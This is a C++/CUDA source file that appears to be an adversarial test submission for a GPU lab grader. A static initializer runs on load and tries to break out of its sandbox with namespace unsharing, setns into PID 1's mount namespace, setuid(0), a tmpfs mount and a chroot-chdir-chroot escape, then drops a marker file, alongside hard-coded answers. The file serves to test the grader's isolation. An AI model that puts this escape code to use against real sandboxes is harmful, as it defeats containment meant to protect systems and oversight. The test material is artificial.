// ATTACK: tries to get out of its sandbox: unshare, chroot, mount, prctl, setns, setuid
// LAB: 01-map
// EXPECTED: no more points than for predicts-the-other-part
// COMPILES: yes
// HARM: no file warpbook-attack-leaves-its-sandbox

#include "lab.hpp"

#include <fcntl.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <unistd.h>

static const int done = [] {
    prctl(PR_SET_DUMPABLE, 1);
    prctl(PR_SET_PDEATHSIG, 0);
    prctl(PR_SET_CHILD_SUBREAPER, 1);
    const bool is_alone = unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID | CLONE_NEWNET) == 0;
    const int init = open("/proc/1/ns/mnt", O_RDONLY);
    if (init >= 0) setns(init, 0);
    (void)!setuid(0);
    // A mount of its own does no harm elsewhere; in the namespace of others it would.
    if (is_alone) mount("none", "/tmp", "tmpfs", 0, nullptr);
    (void)!(chroot(".") == 0 && chdir("../../../..") == 0 && chroot(".") == 0);
    const int file = open("/tmp/warpbook-attack-leaves-its-sandbox", O_WRONLY | O_CREAT, 0600);
    if (file >= 0) close(file);
    return 0;
}();

double predicted_untouched_elements() { return 9; }

double predicted_first_untouched_index() { return 256; }

int blocks_for(int n) { return n > 0 ? (n + threads_per_block - 1) / threads_per_block : 1; }

__global__ void add_one(int* out, const int* in, int n)
{
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) out[i] = in[i] + 1;
}
